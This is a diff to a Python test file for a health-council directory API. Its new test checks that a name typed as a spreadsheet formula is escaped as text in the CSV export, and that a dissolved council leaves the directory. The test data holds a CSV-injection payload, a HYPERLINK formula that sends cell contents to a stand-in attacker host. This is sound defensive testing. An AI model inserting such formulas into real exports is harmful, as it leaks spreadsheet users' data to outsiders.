@@ -5,18 +5,20 @@ and that it costs the same few SQL statements whatever the number of councils an
 import asyncio
 import csv
 import io
-from datetime import datetime
+import uuid
+from datetime import date, datetime
 from email.utils import parsedate_to_datetime
 from typing import Any
 
 import httpx
 import pytest
-from sqlalchemy import event
+from sqlalchemy import event, update
 
 from app.contract.directory import CSV_COLUMNS
 from app.main import create_app
 from app.settings import Settings
 from app.storage.database import Database
+from app.storage.tables import Council
 from tests.api.test_seat_walkthroughs import HELSE_NORD_HF, START, Registry, hn_seat, new_person
 from tests.conftest import StatementCounter
 from tests.tokens import Tokens
@@ -311,3 +313,32 @@ async def test_a_burst_of_reads_is_served_by_the_pool_without_opening_connection
         assert len(opened) <= settings.db_pool_size
     finally:
         await database.dispose()
+
+
+async def test_a_typed_formula_stays_text_in_the_csv_and_a_dissolved_council_leaves_the_directory(
+    registry: Registry, tokens: Tokens, clean_database: Database
+) -> None:
+    """A name is what a trust typed: opened in a spreadsheet, it must not run (OWASP CSV injection). A
+    council dissolved before today has nobody to contact."""
+    nord = await registry.council(region="helse-nord")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Kari")'
+    await registry.appointed(nord, hn_seat("unn", "x") | {"person": {"name": formula}}, tokens.trust("unn"))
+    table = await registry.client.get("/v1/directory", params={"specialty": "anestesiologi", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(table.content.decode("utf-8-sig"))))
+    assert [r["representative_name"] for r in rows if r["council_id"] == nord] == ["'" + formula]
+
+    vest = await registry.council(region="helse-vest")
+    async with clean_database.unit_of_work() as session:  # established in 2025, not at set-up today
+        await session.execute(
+            update(Council).where(Council.id == uuid.UUID(vest)).values(established_on=date(2025, 1, 1))
+        )
+    etag = (await registry.client.get(f"/v1/councils/{vest}", headers=tokens.admin())).headers["etag"]
+    dissolved = await registry.client.patch(
+        f"/v1/councils/{vest}",
+        json={"dissolved_on": "2026-01-31"},
+        headers=tokens.admin() | {"If-Match": etag},
+    )
+    assert dissolved.status_code == 200, dissolved.text
+    listed = (await registry.client.get("/v1/directory", params={"specialty": "anestesiologi"})).json()
+    assert vest not in {c["id"] for c in listed["items"]}
+    assert nord in {c["id"] for c in listed["items"]}
